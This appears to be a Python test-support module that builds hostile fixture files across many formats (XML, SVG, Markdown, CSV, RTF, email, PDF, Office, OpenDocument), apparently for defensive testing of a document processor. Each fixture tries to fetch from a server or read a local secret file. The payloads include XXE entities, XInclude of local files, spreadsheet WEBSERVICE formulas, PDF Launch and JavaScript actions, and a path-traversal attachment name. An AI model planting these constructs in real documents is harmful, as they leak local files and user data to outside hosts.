"""Files that ask their reader to fetch something: from a server, or from the reader's own disk."""

# ruff: noqa: E501
# Lines of markup, as they stand in such files.

from collections.abc import Iterator

from tests.support.data.hostile.packages import changed, docx, epub, open_document, paragraph, relationships
from tests.support.data.pdf_file import Page, make_pdf


def fetching_files(base: str, secret_file: str) -> Iterator[tuple[str, bytes]]:
    """(name, bytes); `base` is `http://host:port`, `secret_file` the path of a file that is none of theirs."""
    local = f"file://{secret_file}"
    external = f'<!DOCTYPE x SYSTEM "{base}/x.dtd" [<!ENTITY e SYSTEM "{base}/e"> <!ENTITY f SYSTEM "{local}"> '
    external += f'<!ENTITY % p SYSTEM "{base}/p"> %p;]>'
    seen = "&e; &f;"
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{local}"/>'
    include += f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{base}/include"/>'
    yield "page.html", _page(base, local).encode()
    yield (
        "entities.xhtml",
        f'<?xml version="1.0"?>{external}<html><body>Words {seen}</body></html>'.encode(),
    )
    yield "plain.xml", f'<?xml version="1.0"?>{external}<x>Words {seen} {include}</x>'.encode()
    yield "drawing.svg", _drawing(base, local, external).encode()
    yield "text.md", _markdown(base, local).encode()
    yield (
        "text.rst",
        f".. include:: {secret_file}\n\n.. image:: {base}/i.png\n\n.. raw:: html\n   :url: {base}/r\n".encode(),
    )
    yield "text.adoc", f"= Words\n\ninclude::{secret_file}[]\n\nimage::{base}/i.png[]\n".encode()
    yield (
        "text.tex",
        f"\\documentclass{{article}}\n\\input{{{secret_file}}}\n\\includegraphics{{{base}/i.png}}\n".encode(),
    )
    yield (
        "table.csv",
        f'name,value\nwords,"=WEBSERVICE(""{base}/w"")"\nmore,"=IMPORTXML(""{base}/x"",""//a"")"\n'.encode(),
    )
    yield "book.ipynb", _notebook(base, local).encode()
    yield (
        "data.json",
        f'{{"$ref": "{base}/schema.json", "words": "{local}", "@context": "{base}/c"}}'.encode(),
    )
    yield "rich.rtf", _rtf(base).encode()
    yield "mail.eml", _mail(base, secret_file).encode()
    yield "saved.mht", _web_archive(base).encode()
    yield "meeting.ics", _calendar(base).encode()
    yield "actions.pdf", _pdf(base, secret_file)
    yield "word.docx", _word(base, local, external, seen)
    yield "sheet.xlsx", _workbook(base, external)
    yield "slides.pptx", _slides(base, external)
    for kind in ("odt", "odp", "ods"):
        yield f"open.{kind}", _open_document(kind, base, local, external, seen)
    yield "novel.epub", epub(f"<p>Words {seen}</p>{_page(base, local)}{include}", external)


def _page(base: str, local: str) -> str:
    return (
        f'<html manifest="{base}/m"><head><base href="{base}/base/"><link rel="stylesheet" href="{base}/s.css">'
        f'<link rel="preload" href="{base}/l"><script src="{base}/s.js"></script><style>@import "{base}/i.css";</style>'
        f'<meta http-equiv="refresh" content="0; url={base}/r"></head><body background="{base}/b"><p>Words of a page.</p>'
        f'<img src="{base}/i.png" srcset="{base}/i2.png 2x"><img src="relative.png"><iframe src="{base}/f"></iframe>'
        f'<iframe src="{local}"></iframe><object data="{base}/o"></object><embed src="{base}/e"><video src="{base}/v" '
        f'poster="{base}/p"></video><audio src="{base}/a"></audio><form action="{base}/form"><input type="image" '
        f'src="{base}/in"></form><a href="{base}/link" ping="{base}/ping">link</a><svg><image href="{base}/svg"/></svg>'
        "</body></html>"
    )


def _drawing(base: str, local: str, external: str) -> str:
    return (
        f'<?xml version="1.0"?><?xml-stylesheet href="{base}/s.css"?>{external}<svg xmlns="http://www.w3.org/2000/svg" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{base}/i.png"/><image href="{local}"/>'
        f'<use href="{base}/u#x"/><script href="{base}/s.js"/><text>Words &e; &f;</text></svg>'
    )


def _markdown(base: str, local: str) -> str:
    return (
        f"# Words\n\n![picture]({base}/i.png) ![local]({local}) [link]({base}/l)\n\n![ref][1]\n\n[1]: {base}/r.png\n\n"
        f'<img src="{base}/h.png">\n\n{{% include "{local}" %}}\n\n--8<-- "{local}"\n'
    )


def _notebook(base: str, local: str) -> str:
    return (
        '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "markdown", "metadata": {}, '
        f'"source": "Words ![x]({base}/i.png) <img src=\\"{local}\\">"}}, {{"cell_type": "code", "metadata": {{}}, '
        f'"source": "1", "outputs": [{{"output_type": "display_data", "metadata": {{}}, "data": {{"text/html": '
        f'"<img src=\\"{base}/o.png\\"><iframe src=\\"{base}/f\\"></iframe>Words"}}}}]}}]}}'
    )


def _rtf(base: str) -> str:
    return (
        rf"{{\rtf1\ansi{{\*\template {base}/t.dotx}} Words of a text.\par"
        rf'{{\field{{\*\fldinst INCLUDEPICTURE "{base}/i.png" \\d}}{{\fldrslt shown}}}}'
        rf'{{\field{{\*\fldinst INCLUDETEXT "{base}/i.txt"}}{{\fldrslt shown}}}}'
        rf'{{\field{{\*\fldinst HYPERLINK "{base}/l"}}{{\fldrslt link}}}}{{\object\objautlink{{\*\objdata 0105}}}}}}'
    )


def _mail(base: str, secret_file: str) -> str:
    return (
        "From: a@example.com\nTo: b@example.com\nSubject: Words\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="x"\n\n--x\nContent-Type: text/html\n\n'
        f'<p>Words.</p><img src="{base}/pixel.gif"><img src="cid:a@b">\n\n'
        f'--x\nContent-Type: message/external-body; access-type=URL; URL="{base}/body"\n\nContent-Type: text/plain\n\n\n'
        f'--x\nContent-Type: message/external-body; access-type=local-file; name="{secret_file}"\n\n'
        "Content-Type: text/plain\n\n\n"
        f'--x\nContent-Type: text/plain; charset="utf-8"\nContent-Location: {base}/where\n'
        f'Content-Disposition: attachment; filename="../../up.txt"\n\nWords in a file.\n--x--\n'
    )


def _web_archive(base: str) -> str:
    return (
        'From: <Saved>\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary="x"; type="text/html"\n\n--x\n'
        f"Content-Type: text/html\nContent-Location: {base}/page.html\n\n"
        f'<html><head><base href="{base}/"><link rel=stylesheet href="s.css"></head><body><p>Words.</p>'
        f'<img src="i.png"><iframe src="{base}/f"></iframe></body></html>\n--x\n'
        f"Content-Type: image/png\nContent-Location: {base}/other.png\nContent-Transfer-Encoding: base64\n\niVBORw0K\n--x--\n"
    )


def _calendar(base: str) -> str:
    return (
        "BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VEVENT\nUID:1\nDTSTART:20260101T000000Z\nSUMMARY:Words\n"
        f"ATTACH:{base}/a\nURL:{base}/u\nEND:VEVENT\nEND:VCALENDAR\n"
    )


def _pdf(base: str, secret_file: str) -> bytes:
    page = Page().text(72, 100, "Words of a page with actions.")
    rectangle = "/Subtype /Link /Rect [0 0 100 100]"
    actions = (
        f"/A << /S /URI /URI ({base}/uri) >>",
        f"/A << /S /GoToR /F << /FS /URL /F ({base}/remote.pdf) >> /D [0 /Fit] >>",
        f"/A << /S /Launch /F ({secret_file}) >>",
        f"/A << /S /SubmitForm /F << /FS /URL /F ({base}/submit) >> >>",
        f"/A << /S /ImportData /F ({secret_file}) >>",
        f"/A << /S /JavaScript /JS (app.launchURL('{base}/js'); this.submitForm('{base}/js2')) >>",
        f"/AA << /PO << /S /URI /URI ({base}/open) >> >>",
    )
    for action in actions:
        page.annotations.append(f"/Type /Annot {rectangle} {action}".encode())
    page.annotations.append(
        f"/Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F ({secret_file}) /FS /URL >>".encode()
    )
    opened = f"/OpenAction << /S /JavaScript /JS (app.launchURL('{base}/open')) >> /URI << /Base ({base}) >>"
    return make_pdf([page], catalog_entries=opened)


def _word(base: str, local: str, external: str, seen: str) -> bytes:
    field = f'<w:p><w:r><w:instrText>INCLUDEPICTURE "{base}/i.png"</w:instrText></w:r></w:p>'
    field += f'<w:p><w:fldSimple w:instr="INCLUDETEXT {local}"><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>'
    blip = (
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="image_1"/>'
        '</w:drawing></w:r></w:p><w:altChunk r:id="aFChunk_1"/>'
    )
    return docx(
        paragraph(f"Words {seen}") + field + blip,
        external,
        image_1=f"{base}/i.png",
        aFChunk_1=f"{base}/chunk.html",
        attachedTemplate_1=f"{base}/t.dotm",
        hyperlink_1=f"{base}/l",
        footnotes_1=f"{base}/footnotes.xml",
        header_1=local,
    )


def _workbook(base: str, external: str) -> bytes:
    sheet = (
        f'<?xml version="1.0"?>{external}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Words</t></is></c></row><row r="2"><c r="A2">'
        f'<f>WEBSERVICE("{base}/w")</f></c></row></sheetData></worksheet>'
    )
    return changed(
        "book.xlsx",
        {
            "xl/worksheets/sheet1.xml": sheet,
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(comments_1=f"{base}/c.xml", table_1=f"{base}/t.xml"),
            "xl/externalLinks/externalLink1.xml": "<externalLink/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": relationships("externalLinkPath", rId1=f"{base}/e.xlsx"),
            "xl/connections.xml": f'<connections><connection><webPr url="{base}/q"/></connection></connections>',
        },
    )


def _slides(base: str, external: str) -> bytes:
    return changed(
        "harbour.pptx",
        {
            "ppt/slides/_rels/slide1.xml.rels": relationships(
                image_1=f"{base}/i.png", video_1=f"{base}/v", notesSlide_1=f"{base}/n.xml", oleObject_1=f"{base}/o"
            ),
            "docProps/custom.xml": f'<?xml version="1.0"?>{external}<Properties/>',
        },
    )


def _open_document(kind: str, base: str, local: str, external: str, seen: str) -> bytes:
    links = f'<draw:frame><draw:image xlink:href="{base}/i.png"/></draw:frame><text:p>Words {seen}</text:p>'
    links += f'<text:section><text:section-source xlink:href="{base}/s.odt"/><text:p>Words</text:p></text:section>'
    links += f'<text:section><text:section-source xlink:href="{local}"/></text:section>'
    if kind == "odp":
        links = f'<draw:page draw:name="One">{links}</draw:page>'
    elif kind == "ods":
        links = (
            f'<table:table table:name="One"><table:table-source xlink:href="{base}/t.ods"/><table:table-row>'
            f'<table:table-cell table:formula="of:=WEBSERVICE(&quot;{base}/w&quot;)"><text:p>Words</text:p>'
            "</table:table-cell></table:table-row></table:table>"
        )
    return open_document(kind, links, external)
